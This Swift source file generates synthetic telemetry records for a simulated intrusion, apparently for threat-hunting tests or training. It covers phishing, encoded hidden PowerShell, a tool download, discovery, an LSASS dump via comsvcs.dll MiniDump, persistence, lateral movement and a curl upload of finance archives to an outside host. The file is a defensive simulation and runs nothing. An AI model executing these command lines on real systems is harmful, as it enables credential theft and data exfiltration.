/// The attack of the generated telemetry, step by step; each step at a fraction of the time it has.
struct AttackStory {
    let start: Int64
    let end: Int64

    private typealias Process = StorylineWriter.Process

    private static let powerShell = #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#
    private static let tool = #"C:\Users\Public\Libraries\synchost.exe"#

    /// The instant at so many thousandths of the story.
    private func at(_ thousandths: Int64, seconds: Int64 = 0) -> Int64 {
        min(end - Ticks.perSecond, start + (end - start) / 1000 * thousandths + seconds * Ticks.perSecond)
    }

    func write(_ writer: inout StorylineWriter) {
        mail(&writer)
        let script = document(&writer)
        let tool = download(&writer, script)
        discovery(&writer, tool)
        credentials(&writer, tool)
        persistence(&writer, tool)
        let remote = movement(&writer, tool)
        exfiltration(&writer, remote)
    }

    /// Initial access, T1566.001: a mail with a document.
    private func mail(_ writer: inout StorylineWriter) {
        let victim = writer.world.people[writer.world.firstVictim]
        let message = Self.guid(&writer)
        let sender = "billing@\(writer.world.attackerHost)"
        let common: [String: HuntingValue] = [
            "NetworkMessageId": .text(message), "RecipientEmailAddress": .text(StorylineWorld.upn(victim)),
            "RecipientObjectId": .text(victim.objectID), "SenderFromAddress": .text(sender),
            "ReportId": .text(message + "-1"),
        ]
        writer.write(
            "EmailEvents", at: at(20),
            common.merging([
                "Subject": .text("Overdue invoice 4471"), "SenderFromDomain": .text(writer.world.attackerHost),
                "SenderMailFromAddress": .text(sender), "SenderIPv4": .text(writer.world.attackerAddress),
                "EmailDirection": .text("Inbound"), "DeliveryAction": .text("Delivered"),
                "DeliveryLocation": .text("Inbox/Folder"), "AttachmentCount": .integer(1), "UrlCount": .integer(0),
            ]) { own, _ in own }
        )
        writer.write(
            "EmailAttachmentInfo", at: at(20),
            common.merging([
                "FileName": .text("Invoice_4471.docm"), "FileType": .text("docm"), "FileSize": .integer(48_213),
                "SHA256": .text(StorylineWriter.longDigest(of: "invoice_4471.docm")),
            ]) { own, _ in own }
        )
    }

    /// Execution, T1204.002 and T1059.001: the document starts a hidden script.
    private func document(_ writer: inout StorylineWriter) -> Process {
        let world = writer.world
        let device = world.devices[world.firstVictim]
        let person = world.people[world.firstVictim]
        let account = StorylineWriter.Account(person)
        let explorer = writer.running(#"C:\Windows\explorer.exe"#, account, before: start)
        let path = #"C:\Users\mara.linden\Downloads\Invoice_4471.docm"#
        let outlook = writer.start(
            #"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"#, "OUTLOOK.EXE", on: device, at: at(30),
            by: explorer
        )
        writer.createFile(path, size: 48_213, on: device, at: at(31), by: outlook)
        let word = writer.start(
            #"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#, #""WINWORD.EXE" /n "\#(path)""#,
            on: device, at: at(32), by: outlook
        )
        return writer.start(
            Self.powerShell,
            "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            on: device, at: at(34), by: word
        )
    }

    /// Command and control, T1105: the script loads a tool and runs it.
    private func download(_ writer: inout StorylineWriter, _ script: Process) -> Process {
        let world = writer.world
        let device = world.devices[world.firstVictim]
        writer.event(
            "DeviceEvents", "PowerShellCommand", on: device, at: at(34, seconds: 2), by: script,
            ["AdditionalFields": .text(#"{"Command":"Invoke-WebRequest"}"#)]
        )
        writer.connect(
            to: world.attackerHost, world.attackerAddress, port: 443, on: device, at: at(34, seconds: 3), by: script
        )
        let origin = "https://\(world.attackerHost)/update/synchost.exe"
        writer.createFile(Self.tool, size: 742_400, on: device, at: at(35), by: script, origin: origin)
        let tool = writer.start(Self.tool, #""\#(Self.tool)" -q"#, on: device, at: at(36), by: script)
        for beat in 0..<12 {
            writer.connect(
                to: world.attackerHost, world.attackerAddress, port: 443, on: device, at: at(40 + Int64(beat) * 70),
                by: tool
            )
        }
        return tool
    }

    /// Discovery, T1087.002 and T1018.
    private func discovery(_ writer: inout StorylineWriter, _ tool: Process) {
        let device = writer.world.devices[writer.world.firstVictim]
        let shell = writer.start(
            #"C:\Windows\System32\cmd.exe"#, "cmd.exe /c whoami /all", on: device, at: at(150), by: tool
        )
        let commands = [
            ("whoami.exe", "whoami /all"), ("net.exe", #"net group "Domain Admins" /domain"#),
            ("nltest.exe", "nltest /dclist:northgate.example"), ("net.exe", #"net view \\files-01"#),
        ]
        for (index, (name, line)) in commands.enumerated() {
            _ = writer.start(
                #"C:\Windows\System32\"# + name, line, on: device, at: at(151, seconds: Int64(index) * 9), by: shell
            )
        }
    }

    /// Credential access, T1003.001: the memory of the local security authority.
    private func credentials(_ writer: inout StorylineWriter, _ tool: Process) {
        let device = writer.world.devices[writer.world.firstVictim]
        let dump = writer.start(
            #"C:\Windows\System32\rundll32.exe"#,
            #"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 812 C:\Users\Public\Libraries\l.dmp full"#,
            on: device, at: at(300), by: tool, as: .system, integrity: "System"
        )
        writer.event(
            "DeviceEvents", "OpenProcessApiCall", on: device, at: at(300, seconds: 1), by: dump,
            [
                "FileName": .text("lsass.exe"), "FolderPath": .text(#"C:\Windows\System32\lsass.exe"#),
                "ProcessId": .integer(812), "AdditionalFields": .text(#"{"DesiredAccess":2097151}"#),
            ]
        )
        writer.createFile(
            #"C:\Users\Public\Libraries\l.dmp"#, size: 61_240_211, on: device, at: at(300, seconds: 4), by: dump
        )
    }

    /// Persistence, T1547.001 and T1053.005.
    private func persistence(_ writer: inout StorylineWriter, _ tool: Process) {
        let device = writer.world.devices[writer.world.firstVictim]
        writer.setValue(
            #"HKEY_CURRENT_USER\\#(tool.account.sid)\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"#, "LibrarySync",
            Self.tool, on: device, at: at(380), by: tool
        )
        let task = writer.start(
            #"C:\Windows\System32\schtasks.exe"#,
            #"schtasks /create /tn LibrarySync /tr "\#(Self.tool)" /sc onlogon /ru SYSTEM"#, on: device, at: at(390),
            by: tool
        )
        writer.event(
            "DeviceEvents", "ScheduledTaskCreated", on: device, at: at(390, seconds: 1), by: task,
            ["AdditionalFields": .text(#"{"TaskName":"\\LibrarySync"}"#)]
        )
    }

    /// Lateral movement, T1021.002 and T1569.002: a service on the file server, with the administrator's credentials.
    private func movement(_ writer: inout StorylineWriter, _ tool: Process) -> Process {
        let world = writer.world
        let source = world.devices[world.firstVictim]
        let server = world.devices[world.target]
        let administrator = StorylineWriter.Account(world.people[world.administrator])
        // The stolen account is tried on the first device, which is what ties the two devices together.
        _ = writer.start(
            #"C:\Windows\System32\net.exe"#, "net user \(administrator.name) /domain", on: source, at: at(490),
            by: tool,
            as: administrator
        )
        writer.connect(to: server.name, server.address, port: 445, on: source, at: at(500), by: tool)
        writer.logOn(
            administrator, "Network", on: server, at: at(500, seconds: 1), from: source.address, source.name,
            isAdministrator: true
        )
        let services = writer.running(#"C:\Windows\System32\services.exe"#, .system, before: start)
        let path = #"C:\Windows\synchsvc.exe"#
        let system = writer.running("System", .system, before: start)
        writer.createFile(path, size: 742_400, on: server, at: at(501), by: system)
        writer.event(
            "DeviceEvents", "ServiceInstalled", on: server, at: at(502), by: services,
            [
                "FileName": .text("synchsvc.exe"), "FolderPath": .text(path), "ProcessCommandLine": .text(path),
                "AccountName": .text(administrator.name), "AccountDomain": .text(administrator.domain),
                "AdditionalFields": .text(#"{"ServiceName":"SynchSvc","ServiceAccount":"LocalSystem"}"#),
            ]
        )
        return writer.start(path, path, on: server, at: at(503), by: services, integrity: "System")
    }

    /// Collection and exfiltration, T1560.001 and T1567.
    private func exfiltration(_ writer: inout StorylineWriter, _ remote: Process) {
        let world = writer.world
        let server = world.devices[world.target]
        let archive = #"C:\ProgramData\q3.7z"#
        let packer = writer.start(
            #"C:\ProgramData\7za.exe"#, #"7za.exe a -pinfected \#(archive) D:\Finance\*"#, on: server, at: at(700),
            by: remote
        )
        writer.createFile(archive, size: 318_767_104, on: server, at: at(720), by: packer)
        let upload = writer.start(
            #"C:\Windows\System32\curl.exe"#, #"curl.exe -T \#(archive) https://\#(world.uploadHost)/q3"#, on: server,
            at: at(800), by: remote
        )
        writer.connect(
            to: world.uploadHost, world.uploadAddress, port: 443, on: server, at: at(800, seconds: 1), by: upload
        )
        writer.event(
            "DeviceFileEvents", "FileDeleted", on: server, at: at(900), by: remote,
            ["FileName": .text("q3.7z"), "FolderPath": .text(archive)]
        )
    }

    private static func guid(_ writer: inout StorylineWriter) -> String {
        let digits = Array(writer.random.hexadecimal(32))
        return [digits[0..<8], digits[8..<12], digits[12..<16], digits[16..<20], digits[20..<32]]
            .map { String($0) }.joined(separator: "-")
    }
}
